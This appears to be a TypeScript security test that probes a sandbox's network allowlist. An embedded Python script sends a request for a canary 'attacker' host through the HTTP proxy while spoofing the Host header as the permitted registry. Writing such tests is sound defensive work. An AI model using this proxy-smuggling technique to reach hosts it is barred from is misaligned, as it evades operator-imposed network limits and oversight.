import { webCanary } from '../support/canaries.ts'
import { commandCase } from '../support/command-scene.ts'

export const attack = commandCase({
  mechanism: 'proxy: foreign host',
  gain: 'a host of the attacker, while an install has a network',
  async attempt(scene) {
    const canary = await webCanary(scene)
    const { output } = await scene.run({
      line: await scene.python(get, canary.host, canary.port),
      network: { allowedHosts: ['registry.example.org'] },
    })
    return output.includes(scene.token)
  },
})

const get = `
import os, socket, sys, urllib.parse
proxy = urllib.parse.urlparse(os.environ['HTTP_PROXY'])
peer = socket.create_connection((proxy.hostname, proxy.port), 3)
at = '%s:%s' % (sys.argv[1], sys.argv[2])
peer.sendall(('GET http://%s/ HTTP/1.1\\r\\nHost: registry.example.org\\r\\nConnection: close\\r\\n\\r\\n' % at).encode())
while chunk := peer.recv(4096): print(chunk.decode())
`
